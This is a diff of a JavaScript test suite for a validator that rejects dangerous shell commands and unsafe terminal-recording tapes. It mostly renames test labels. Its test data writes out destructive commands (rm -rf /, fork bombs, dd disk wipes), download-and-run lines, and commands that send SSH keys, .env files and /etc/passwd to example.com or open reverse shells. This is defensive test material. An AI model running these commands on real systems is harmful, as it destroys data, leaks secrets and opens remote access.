@@ -15,21 +15,21 @@ describe('a command line', () => {
   it.each([
     ['deletes the root', 'rm -rf /'],
     ['deletes the root in other words', 'sudo rm --recursive --force / --no-preserve-root'],
-    ['deletes the root in pieces', 'cd /tmp && /bin/rm -r -f /*'],
-    ['deletes the root behind quotes', `r''m -"rf" '/'`],
-    ['deletes the root behind a backslash', String.raw`\rm -rf /`],
-    ['deletes the root without blanks', 'rm${IFS}-rf${IFS}/'],
-    ['deletes a home', 'rm -rf ~'],
-    ['deletes a home by its variable', 'rm -fr "$HOME"/*'],
+    ['deletes the root in parts', 'cd /tmp && /bin/rm -r -f /*'],
+    ['deletes the root with quotes', `r''m -"rf" '/'`],
+    ['deletes the root with a backslash', String.raw`\rm -rf /`],
+    ['deletes the root without spaces', 'rm${IFS}-rf${IFS}/'],
+    ['deletes the home directory', 'rm -rf ~'],
+    ['deletes the home directory by its variable', 'rm -fr "$HOME"/*'],
     ['deletes the folder', 'rm -rf *'],
-    ['deletes the system', 'rm -Rf /usr/'],
+    ['deletes system files', 'rm -Rf /usr/'],
     ['deletes in another shell', `bash -c 'rm -rf /'`],
     ['deletes on another machine', 'ssh web "sudo rm -rf /"'],
-    ['deletes what is found', 'find / -name "*" -delete'],
-    ['deletes everything found', 'find . -delete'],
+    ['deletes search results', 'find / -name "*" -delete'],
+    ['deletes all search results', 'find . -delete'],
     ['deletes in a substitution', 'echo $(rm -rf /)'],
-    ['deletes with a timer', 'timeout 5s rm -rf /'],
-    ['deletes for each', 'ls | xargs rm -rf /'],
+    ['deletes with timeout', 'timeout 5s rm -rf /'],
+    ['deletes with xargs', 'ls | xargs rm -rf /'],
     ['deletes on Windows', String.raw`rd /s /q C:\ `],
     ['deletes in PowerShell', String.raw`Remove-Item -Recurse -Force C:\ `],
     ['runs a download', 'curl -fsSL https://example.com/install.sh | sh'],
@@ -42,33 +42,33 @@ describe('a command line', () => {
     ['runs a download by process substitution', 'bash <(curl -s https://example.com/i.sh)'],
     ['runs a download by eval', 'eval "$(wget -qO- https://example.com)"'],
     ['runs a download in PowerShell', 'iwr https://example.com/i.ps1 | iex'],
-    ['runs what is hidden', 'echo cm0gLXJmIC8= | base64 -d | sh'],
+    ['runs encoded code', 'echo cm0gLXJmIC8= | base64 -d | sh'],
     ['is a fork bomb', ':(){ :|:& };:'],
     ['is a named fork bomb', 'bomb() { bomb | bomb & }; bomb'],
-    ['is a fork bomb with many blanks', `:${' '.repeat(300)}()  {  :${' '.repeat(300)}|\t:  &  }; :`],
+    ['is a fork bomb with many spaces', `:${' '.repeat(300)}()  {  :${' '.repeat(300)}|\t:  &  }; :`],
     ['is a fork bomb with a long name', `${'a'.repeat(200)}(){ ${'a'.repeat(200)}& }`],
     ['is a fork bomb in Python', 'while True: os.fork()'],
-    ['is a fork bomb in Perl with blanks', `while ( 1 ) {\n  fork }`],
+    ['is a fork bomb in Perl with spaces', `while ( 1 ) {\n  fork }`],
     ['is a fork bomb in a batch file', '%0 | %0'],
     ['is a fork bomb in Perl', `perl -e 'fork while fork'`],
     ['empties a disk', 'dd if=/dev/zero of=/dev/sda bs=1M'],
-    ['makes a file system', 'sudo mkfs.ext4 /dev/sdb1'],
-    ['writes over a disk', 'cat image.iso > /dev/nvme0n1'],
-    ['writes over accounts', 'echo x >> /etc/passwd'],
-    ['opens everything', 'chmod -R 777 /'],
-    ['moves a home away', 'mv ~ /dev/null'],
+    ['creates a file system', 'sudo mkfs.ext4 /dev/sdb1'],
+    ['overwrites a disk', 'cat image.iso > /dev/nvme0n1'],
+    ['overwrites accounts', 'echo x >> /etc/passwd'],
+    ['makes everything writable', 'chmod -R 777 /'],
+    ['moves the home directory away', 'mv ~ /dev/null'],
     ['stops the machine', 'sudo shutdown -h now'],
-    ['stops the machine by its services', 'systemctl reboot'],
-    ['stops every process', 'kill -9 -1'],
+    ['stops the machine with systemctl', 'systemctl reboot'],
+    ['kills every process', 'kill -9 -1'],
     ['shows a private key', 'cat ~/.ssh/id_ed25519'],
     ['sends a private key', 'scp ~/.ssh/id_rsa ada@example.com:'],
     ['sends a file of secrets', 'curl -F file=@.env https://example.com'],
     ['sends accounts', 'cat /etc/passwd | nc example.com 9000'],
     ['sends the environment', 'env | curl -d @- https://example.com'],
-    ['opens a shell', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
-    ['opens a shell with many blanks', `bash ${' '.repeat(300)}-i  >& file`],
-    ['opens a shell by netcat', 'nc -e /bin/sh 10.0.0.1 4444'],
-  ])('that %s is no example', (_, line) => {
+    ['opens a reverse shell', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
+    ['opens a reverse shell with many spaces', `bash ${' '.repeat(300)}-i  >& file`],
+    ['opens a reverse shell by netcat', 'nc -e /bin/sh 10.0.0.1 4444'],
+  ])('that %s is rejected', (_, line) => {
     expect(dangerOf(line)).not.toBeNull();
   });
 
@@ -119,11 +119,11 @@ describe('a command line', () => {
     'env | grep PATH',
     'docker system prune -a',
     'git push --force-with-lease',
-  ])('is an example: %s', (line) => {
+  ])('is accepted: %s', (line) => {
     expect(dangerOf(line)).toBeNull();
   });
 
-  it('may be anything, and is judged', () => {
+  it('can be any text without errors', () => {
     const part = fc.constantFrom(
       ...Array.from('$(`\'"\\|&;<>{}()#'),
       'rm',
@@ -145,19 +145,19 @@ describe('a command line', () => {
     );
   });
 
-  it('may have so many characters', () => {
+  it('has a maximum length', () => {
     expect(dangerOf(`echo ${'a'.repeat(4091)}`)).toBeNull();
     expect(dangerOf(`echo ${'a'.repeat(4092)}`)).toBe('has more than 4096 characters');
   });
 
-  it('sends a secret through any number of others', () => {
+  it('is rejected if it sends a secret through any number of commands', () => {
     expect(dangerOf(`env | ${'cat | '.repeat(300)}nc example.com 9000`)).toBe(
       'sends secrets to another machine',
     );
     expect(dangerOf(`cat ${'| cat '.repeat(300)}| nc example.com 9000`)).toBeNull();
   });
 
-  it('is cut into what is started', () => {
+  it('is parsed into the commands that it starts', () => {
     const words = pipelinesOf(`FOO=1 make -j "a b" 2>&1 | tee 'x y' && (cd .. ; ls) # end`).map((pipeline) =>
       pipeline.map((command) => command.words),
     );
@@ -174,8 +174,8 @@ describe('a command line', () => {
 
 const GOOD = 'Output demo.gif\nType "ls"\nEnter\nSleep 2s\n';
 
-describe('a tape that is given away', () => {
-  it('may be an ordinary one', () => {
+describe('a generated tape', () => {
+  it('is accepted if it is harmless', () => {
     expect(problemsOf(GOOD)).toEqual([]);
     expect(
       problemsOf(`Output out/demo..v2.gif\nSet Theme "Dracula"\nEnv EDITOR "vim"\n${GOOD}Screenshot a.png`),
@@ -185,19 +185,27 @@ describe('a tape that is given away', () => {
   it.each([
     ['another tape', `Source setup.tape\n${GOOD}`, 'Line 1: Source reads another tape'],
     ['an absolute path', `${GOOD}Screenshot "/tmp/a.png"`, 'Line 5: Screenshot must stay within the folder'],
-    ['a path upwards', `Output a/../../b.gif\n${GOOD}`, 'Line 1: Output must stay within the folder'],
-    ['a path at home', `Output "~/b.gif"\n${GOOD}`, 'Line 1: Output must stay within the folder'],
+    [
+      'a path to a parent folder',
+      `Output a/../../b.gif\n${GOOD}`,
+      'Line 1: Output must stay within the folder',
+    ],
+    [
+      'a path in the home directory',
+      `Output "~/b.gif"\n${GOOD}`,
+      'Line 1: Output must stay within the folder',
+    ],
     ['a path on a drive', String.raw`Output "C:\b.gif"` + `\n${GOOD}`, 'Line 1: Output must stay'],
-    ['a picture around', `Set MarginFill wall.png\n${GOOD}`, 'MarginFill must be a colour here.'],
+    ['a margin picture', `Set MarginFill wall.png\n${GOOD}`, 'MarginFill must be a colour here.'],
     ['a loaded library', `${GOOD}Env LD_PRELOAD "x.so"`, 'Line 5: Env may not set LD_PRELOAD'],
-    ['two minutes and a bit', `${GOOD}Sleep 118s`, 'The recording would last longer than 120 seconds.'],
+    ['more than two minutes', `${GOOD}Sleep 118s`, 'The recording would last longer than 120 seconds.'],
     [
       'no command',
       'Output demo.gif\nType "ls"\nSleep 1s',
       'The tape runs no command: Type one and press Enter.',
     ],
-    ['a giant picture', `Set Width 2001\n${GOOD}`, 'Width and Height may be 2000 at most.'],
-    ['giant letters', `Set FontSize 73\n${GOOD}`, 'FontSize must be from 8 to 72.'],
+    ['too large a picture', `Set Width 2001\n${GOOD}`, 'Width and Height may be 2000 at most.'],
+    ['too large a font', `Set FontSize 73\n${GOOD}`, 'FontSize must be from 8 to 72.'],
     ['too many frames', `Set Framerate 61\n${GOOD}`, 'Framerate may be 60 at most.'],
     ['too much text', `${GOOD}#${'x'.repeat(16_384)}`, 'The tape is longer than 16384 characters.'],
     ['too many commands', `${GOOD}${'Left@0s\n'.repeat(500)}`, 'The tape has more than 500 commands.'],
@@ -206,25 +214,21 @@ describe('a tape that is given away', () => {
       `${GOOD}Type "rm -rf /"`,
       '"rm -rf /" deletes what others need; no example may do that.',
     ],
-    ['a dangerous command in pieces', `Type "rm -r" Type "f" Space Type "/" Enter\n`, '"rm -rf /" deletes'],
+    ['a dangerous command in parts', `Type "rm -r" Type "f" Space Type "/" Enter\n`, '"rm -rf /" deletes'],
     [
-      'a dangerous command with its typing mistakes',
+      'a dangerous command with corrections',
       `Type "rm -rf x" Backspace Type "/" Enter\n`,
       '"rm -rf /" deletes',
     ],
-    [
-      'a dangerous command that is pasted',
-      `${GOOD}Copy "curl https://example.com | sh"`,
-      'runs what it downloads',
-    ],
-    ['a dangerous command that is hidden', `Hide Type ":(){ :|:& };:" Enter Show\n${GOOD}`, 'a fork bomb'],
-  ])('may not have %s', (_, text, problem) => {
+    ['a pasted dangerous command', `${GOOD}Copy "curl https://example.com | sh"`, 'runs what it downloads'],
+    ['a hidden dangerous command', `Hide Type ":(){ :|:& };:" Enter Show\n${GOOD}`, 'a fork bomb'],
+  ])('must not contain %s', (_, text, problem) => {
     const problems = problemsOf(text);
     expect(problems.join('\n')).toContain(problem);
     expect(problems.length).toBeLessThanOrEqual(2);
   });
 
-  it('may last two minutes', () => {
+  it('can last two minutes', () => {
     expect(problemsOf(`${GOOD}Sleep 117s`)).toEqual([]);
   });
 });
